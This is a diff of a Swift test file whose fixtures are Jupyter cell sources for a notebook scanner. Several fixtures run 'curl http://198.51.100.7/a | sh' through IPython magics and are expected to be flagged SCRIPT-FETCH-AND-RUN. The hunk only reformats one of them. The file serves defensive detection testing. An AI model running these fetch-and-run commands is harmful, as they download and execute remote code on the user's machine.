@@ -150,7 +150,10 @@ import Testing
         ("get_ipython().system_raw('curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
         ("get_ipython().run_line_magic('sx', 'curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
         ("get_ipython().run_cell_magic('bash', '', 'curl http://198.51.100.7/a | sh')", "SCRIPT-FETCH-AND-RUN"),
-        ("from IPython import get_ipython as g\ng().run_cell('!curl http://198.51.100.7/a|sh')", "SCRIPT-FETCH-AND-RUN"),
+        (
+            "from IPython import get_ipython as g\ng().run_cell('!curl http://198.51.100.7/a | sh')",
+            "SCRIPT-FETCH-AND-RUN"
+        ),
         ("%%javascript\nIPython.notebook.kernel.execute('import os')", "NOTEBOOK-SCRIPT"),
     ])
     func whatCellsHandOnIsJudged(_ source: String, _ rule: String) {
